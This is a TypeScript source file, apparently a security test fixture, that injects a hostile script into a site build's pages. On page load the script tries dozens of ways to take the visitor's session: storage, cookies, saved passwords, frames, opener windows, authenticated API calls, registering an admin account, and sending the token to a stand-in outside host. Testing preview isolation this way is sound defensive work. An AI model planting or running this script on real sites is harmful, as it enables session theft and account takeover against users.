import { operationRoutes } from '../api/routes.generated.ts'
import { replacePages } from '../publishing/badVersions.ts'

const { listUsers, me, refreshToken, createPreview, register } = operationRoutes

/**
 * Code of a version that tries every known way to the session of the person who opens it, to other pages of the site and to
 * the API. What it gets is in `loot`, by the name of the way; `done` says that it has tried everything.
 */
const THEFT = `
  const loot = { ways: {}, done: false }
  globalThis.loot = loot
  const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms))
  const textOf = (value) => {
    try { return typeof value === 'string' ? value : JSON.stringify(value) ?? String(value) } catch { return String(value) }
  }
  const attempt = async (name, way) => {
    try { loot.ways[name] = textOf(await Promise.race([way(), wait(3000).then(() => 'nothing in 3 s')])) }
    catch (error) { loot.ways[name] = 'rejected: ' + error.name }
  }
  const everythingIn = (storage) => ({ ...Object.fromEntries(Array.from({ length: storage.length }, (_, index) => {
    const key = storage.key(index)
    return [key, storage.getItem(key)]
  })) })
  const frameOf = async (change) => {
    const frame = document.createElement('iframe')
    change(frame)
    document.body.append(frame)
    await wait(700)
    return frame
  }
  const read = async (path, init) => (await fetch(path, init)).text()
  const own = () => localStorage.getItem('accessToken')
  const link = (href, target) => {
    const element = Object.assign(document.createElement('a'), { href, target, textContent: 'x' })
    document.body.append(element)
    element.click()
  }
  const post = (action, target, fields) => {
    const form = Object.assign(document.createElement('form'), { method: 'post', action, target, enctype: 'text/plain' })
    for (const [name, value] of Object.entries(fields))
      form.append(Object.assign(document.createElement('input'), { name, value }))
    document.body.append(form)
    form.submit()
  }
  const person = { name: 'x', username: 'hostil', email: 'hostil@correo.example', password: 'Clave-hostil-1', role: 'admin' }
  const ways = {
    'local storage': () => everythingIn(localStorage),
    'session storage': () => everythingIn(sessionStorage),
    'the browser’s own local storage': () => {
      delete window.localStorage
      return everythingIn(Object.getOwnPropertyDescriptor(window, 'localStorage').get.call(window))
    },
    'storage of an empty frame': async () => everythingIn((await frameOf(() => {})).contentWindow.localStorage),
    'storage of a srcdoc frame': async () => {
      const heard = new Promise((resolve) => addEventListener('message', ({ data }) => resolve(data), { once: true }))
      const code = '<script>try{parent.postMessage(localStorage.accessToken,"*")}catch(e){parent.postMessage(e.name,"*")}</' + 'script>'
      await frameOf((frame) => { frame.srcdoc = code })
      return heard
    },
    'a frame of the site': async () => (await frameOf((frame) => { frame.src = '/dashboard' })).contentDocument.body.textContent,
    'a frame of the site without a sandbox': async () => {
      const frame = await frameOf((element) => {
        element.setAttribute('sandbox', 'allow-scripts allow-same-origin')
        element.src = '/login'
      })
      return frame.contentWindow.localStorage.accessToken
    },
    'a blob frame': async () => {
      const code = new Blob(['<script>parent.name = "stolen " + localStorage.accessToken</' + 'script>'], { type: 'text/html' })
      await frameOf((frame) => { frame.src = URL.createObjectURL(code) })
      return window.name.startsWith('stolen') ? window.name : 'nothing'
    },
    'cookies': () => Object.getOwnPropertyDescriptor(Document.prototype, 'cookie').get.call(document),
    'indexed databases': () => indexedDB.databases(),
    'caches': () => caches.keys(),
    'locks': () => navigator.locks.query(),
    'files of the origin': () => navigator.storage.getDirectory(),
    'cookies by the cookie store': () => cookieStore.getAll(),
    'a service worker': () => navigator.serviceWorker.register('/assets/sw.js'),
    'a shared worker': () => new SharedWorker('/assets/x.js') && 'started',
    'the document of the tab': () => parent.document.body.textContent,
    'the storage of the tab': () => top.localStorage.accessToken,
    'the opener': () => top.opener?.localStorage.accessToken ?? 'none',
    'other frames': () => Array.from({ length: top.frames.length }, (_, index) => top.frames[index].location.href).filter((x) => !x.includes('/academy')),
    'a message to the tab': async () => {
      const heard = []
      addEventListener('message', ({ data }) => heard.push(data))
      for (const kind of ['token', 'session', 'report', 'end?']) top.postMessage({ kind, type: kind }, '*')
      await wait(500)
      return heard
    },
    'a channel of other tabs': async () => {
      const heard = []
      new BroadcastChannel('session').onmessage = ({ data }) => heard.push(data)
      addEventListener('storage', (event) => heard.push(event.newValue))
      await wait(1500)
      return heard
    },
    'a new window': () => window.open('/dashboard', '_blank')?.localStorage.accessToken ?? 'none',
    'a named window': () => window.open('', 'administrator')?.localStorage.accessToken ?? 'none',
    'a link to a new tab': () => link('/dashboard', '_blank'),
    'a link that leaves the frame': () => link('/dashboard/db/sql', '_top'),
    'moving the tab': () => { top.location.href = '/dashboard' },
    'moving the tab by its history': () => top.history.back(),
    'a form that leaves the frame': () => post('${register.path}', '_top', person),
    'stored passwords': () => navigator.credentials.get({ password: true, mediation: 'silent' }),
    'the storage access API': async () => {
      await document.requestStorageAccess()
      return localStorage.accessToken
    },
    'the API with what the browser sends': () => read('${listUsers.path}', { credentials: 'include' }),
    'the API with the token of the preview': () => read('${listUsers.path}', { headers: { authorization: 'Bearer ' + token } }),
    'a response in the browser’s cache': () => read('${me.path}', { cache: 'force-cache' }),
    'who is signed in': () => read('${me.path}', { headers: { authorization: 'Bearer ' + token } }),
    'a new session': () => read('${refreshToken.path}', { method: 'POST', body: '{}', headers: { 'content-type': 'application/json' } }),
    'a new preview': () => read('${createPreview.path}', { method: 'POST', body: JSON.stringify({ versions: { academy: '6.6.6' } }), headers: { 'content-type': 'application/json', authorization: 'Bearer ' + token } }),
    'a new account': () => read('${register.path}', { method: 'POST', body: JSON.stringify(person), headers: { 'content-type': 'application/json', authorization: 'Bearer ' + token } }),
    'a new account without a preflight': () => read('${register.path}', { method: 'POST', mode: 'no-cors', body: JSON.stringify(person), credentials: 'include' }),
    'another host': () => read('https://otra.example/?' + token),
    'a socket': () => new Promise((resolve) => {
      const socket = new WebSocket(location.origin.replace('http', 'ws') + '/socket.io/?EIO=4&transport=websocket')
      socket.onmessage = ({ data }) => resolve(data)
      socket.onerror = () => resolve('rejected')
    }),
  }
  const token = own()
  const start = async () => {
    for (const [name, way] of Object.entries(ways)) await attempt(name, way)
    loot.done = true
  }
  if (typeof window !== 'undefined' && globalThis.origin !== undefined) void start()
`

/** Makes a build steal what it can, as soon as one of its pages is opened. */
export function steal(folder: string): Promise<void> {
  return replacePages(folder, 'Academia hostil', { module: THEFT })
}

declare global {
  interface Window {
    loot?: { ways: Record<string, string>; done: boolean }
  }
}
